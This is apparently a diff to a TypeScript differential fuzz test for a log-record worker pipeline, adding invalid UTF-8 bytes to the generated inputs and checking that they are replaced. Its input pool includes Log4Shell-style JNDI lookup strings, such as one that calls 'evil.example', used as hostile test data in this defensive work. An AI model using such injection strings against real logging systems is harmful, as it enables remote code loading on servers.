@@ -75,10 +75,30 @@ const STATUSES = ['200', '301', '403', '404', '500', '503'];
 
 const numberText = (pool: readonly string[]): string => renderNumber(decimalOf(pick(pool)));
 
+// Bytes that are not UTF-8, written into texts as one private-use character each (U+E0F0 + i)
+// and turned into these bytes when the batch is packed (utf8Of). A worker replaces them with
+// U+FFFD in tracked values (workers/utf8.ts); the reference decodes them the WHATWG way.
+const INVALID_UTF8 = [[0xff], [0x80], [0xc3], [0xe6, 0x97], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xf0, 0x9f, 0x98]];
+const invalidUtf8 = (i: number): string => String.fromCharCode(0xe0f0 + i);
+const INVALID_UTF8_MARK = /[\ue0f0-\ue0ff]/;
+
+/** The bytes of a generated text, with each marker as its invalid UTF-8 bytes. */
+function utf8Of(text: string): Buffer {
+  if (!INVALID_UTF8_MARK.test(text)) return Buffer.from(text, 'utf8');
+  return Buffer.concat(text.split(/([\ue0f0-\ue0ff])/).map((part) =>
+    INVALID_UTF8_MARK.test(part) && part.length === 1 ? Buffer.from(INVALID_UTF8[part.charCodeAt(0) - 0xe0f0]!) : Buffer.from(part, 'utf8')));
+}
+
+/** A generated text as it reads once its invalid UTF-8 is replaced with U+FFFD (WHATWG TextDecoder). */
+const replaceInvalidUtf8 = (text: string): string => (INVALID_UTF8_MARK.test(text) ? new TextDecoder().decode(utf8Of(text)) : text);
+const hasInvalidUtf8 = (text: string): boolean => INVALID_UTF8_MARK.test(text) && replaceInvalidUtf8(text).includes('\ufffd');
+
 const TEXTS = [
   '', 'GET', 'Zürich', 'São Paulo 😀', '日本語', 'say "hi"', 'back\\slash', 'tab\tx', 'line\nbreak',
   '${jndi:ldap://evil.example/a}', '${${lower:j}ndi:x}', '$${env:X}', 'cost $5 {ok}', '${', '$', '{',
   'x\ud800y', '\ud83d', '\u0000\u001f', 'a/b', 'Mozilla/5.0 (X11; Linux x86_64)', 'ü', '«»', '\u2028',
+  `bad ${invalidUtf8(0)} byte`, `${invalidUtf8(1)}${invalidUtf8(2)}ü${invalidUtf8(3)}`, `$${invalidUtf8(4)}{x}`,
+  `${invalidUtf8(5)}${invalidUtf8(6)}${invalidUtf8(7)}`, `日本${invalidUtf8(3)}\u0080`,
 ];
 
 const ws = (): string => (chance(0.8) ? '' : pick([' ', '\n', '\t', '\r\n', '  ', ' \t ']));
@@ -100,10 +120,10 @@ const POOL: Record<string, Kind> = {
 };
 const POOL_NAMES = Object.keys(POOL);
 /** Keys records carry that no job here selects or filters on. */
-const OTHER_KEYS = ['CacheCacheStatus', 'ClientASN', 'EdgeColoCode', 'OriginIP', 'WorkerScriptName', 'x-extra', '日本', '', 'k"q\\',
+const OTHER_KEYS = ['CacheCacheStatus', 'ClientASN', 'EdgeColoCode', 'OriginIP', 'WorkerScriptName', 'x-extra', '日本', '', 'k"q\\', `x${invalidUtf8(2)}`,
   // Near misses of selected names: same byte length with a different middle or last byte, one byte more or less.
   'RayIE', 'RayId', 'RaÿD', 'Rayé', 'ClientIp', 'EdgeStartTimestamP', 'EdgeStartTimestamps', 'ClientCountrY', 'ZoneNam', 'ZoneNamee'];
-const NESTED_KEYS = ['user-agent', 'x-forwarded-for', 'cookie', '日本', 'k"q', '${x}', ''];
+const NESTED_KEYS = ['user-agent', 'x-forwarded-for', 'cookie', '日本', 'k"q', '${x}', '', `k${invalidUtf8(0)}`];
 
 /** Nesting deeper than the scanner's first container stack (64). */
 let deepValues = 0;
@@ -617,6 +637,8 @@ type Outcome = 'out' | 'filtered' | 'wrong_type' | 'invalid_json';
 
 interface Expected {
   outcomes: Outcome[];
+  /** Records (not invalid_json) whose tracked values held invalid UTF-8. */
+  invalidUtf8: number;
   /** Each output record's text (without delimiters). */
   records: string[];
   chunks: string[];
@@ -661,6 +683,7 @@ function expect(c: Case): Expected {
 
   const outcomes: Outcome[] = [];
   const records: string[] = [];
+  let invalidUtf8Records = 0;
   let min: bigint | null = null;
   let max: bigint | null = null;
   for (const r of c.records) {
@@ -680,11 +703,22 @@ function expect(c: Case): Expected {
       }
       count('accepted: bad string where unchecked');
     }
-    const parsed = parseExact(r.parseText);
+    // Invalid UTF-8 in a tracked value is replaced with U+FFFD before the filter and the output
+    // (workers/utf8.ts); the reference reads every text so repaired (untracked ones are never read).
+    const parsed = parseExact(replaceInvalidUtf8(r.parseText));
     assert.ok(isObject(parsed), `generator: not an object: ${r.parseText}`);
     // The raw text of each field: its last member (duplicate keys: the last one wins).
     const raw = new Map<string, string>();
-    for (const m of r.members) if (m.key !== null && m !== r.unchecked && used.has(m.key)) raw.set(m.key, m.valueText);
+    const last = new Map<string, string>();
+    for (const m of r.members) {
+      if (m.key === null || m === r.unchecked) continue;
+      if (used.has(m.key)) raw.set(m.key, replaceInvalidUtf8(m.valueText));
+      if (tracked.has(m.key)) last.set(m.key, m.valueText);
+    }
+    if ([...last.values()].some(hasInvalidUtf8)) {
+      invalidUtf8Records++;
+      count('invalid UTF-8 replaced');
+    }
     for (const [key, text] of raw) assert.ok(sameJson(parseExact(text), parsed[key]!), `generator: raw text of ${key} is ${text}, parsed ${JSON.stringify(parsed[key])}`);
     for (const key of used) assert.equal(raw.has(key), Object.hasOwn(parsed, key), `generator: ${key} present?`);
 
@@ -730,14 +764,14 @@ function expect(c: Case): Expected {
   });
   if (records.length > 0) open += c.framed ? options.batch_suffix : '';
   if (open !== '') chunks.push(open);
-  return { outcomes, records, chunks, minEventTimeNs: min?.toString() ?? null, maxEventTimeNs: max?.toString() ?? null, tally };
+  return { outcomes, invalidUtf8: invalidUtf8Records, records, chunks, minEventTimeNs: min?.toString() ?? null, maxEventTimeNs: max?.toString() ?? null, tally };
 }
 
 // ---------------------------------------------------------------------------------------------
 // Running a case and comparing.
 
 function packTask(c: Case): BatchTask {
-  const pieces = [c.before, ...c.records.map((r) => r.text), c.after].map((t) => Buffer.from(t, 'utf8'));
+  const pieces = [c.before, ...c.records.map((r) => r.text), c.after].map(utf8Of);
   const data = new Uint8Array(new SharedArrayBuffer(pieces.reduce((n, b) => n + b.length, 0)));
   const ends = new Uint32Array(Math.max(1, c.records.length));
   let pos = 0;
@@ -783,6 +817,7 @@ function differences(c: Case, want: Expected, got: BatchResult): string[] {
   same('recordsOut', n('out'), got.recordsOut);
   same('filtered', n('filtered'), got.filtered);
   same('sampled', 0, got.sampled);
+  same('invalidUtf8', want.invalidUtf8, got.invalidUtf8);
   same('dropped', { invalid_json: n('invalid_json'), wrong_type: n('wrong_type') }, got.dropped);
   same('droppedRecords', want.outcomes.flatMap((o, index) => (o === 'invalid_json' || o === 'wrong_type' ? [`${index}:${o}`] : [])),
     (got.droppedRecords ?? []).map((d) => `${d.index}:${d.reason}`));
@@ -937,7 +972,7 @@ describe('worker pipeline vs reference (seeded differential fuzz)', () => {
       'no output': 50, '3+ chunks': 10, 'output over 1 MiB': 1, out: 2000, filtered: 300, wrong_type: 30,
       invalid_json: 200, 'invalid: structural': 200, 'invalid: bad string in a tracked value': 15,
       'accepted: bad string where unchecked': 200, 'output field missing': 1000, 'duplicate keys': 250, 'escaped key': 200,
-      'CVE rewrite': 400, 'timestamp kept': 200, 'timestamp string converted': 150, 'timestamp integer converted': 150,
+      'CVE rewrite': 400, 'invalid UTF-8 replaced': 200, 'timestamp kept': 200, 'timestamp string converted': 150, 'timestamp integer converted': 150,
     };
     if (process.env.SHOW_TALLY) console.log(JSON.stringify(tally, null, 1));
     tally['deep nesting (generated)'] = deepValues;
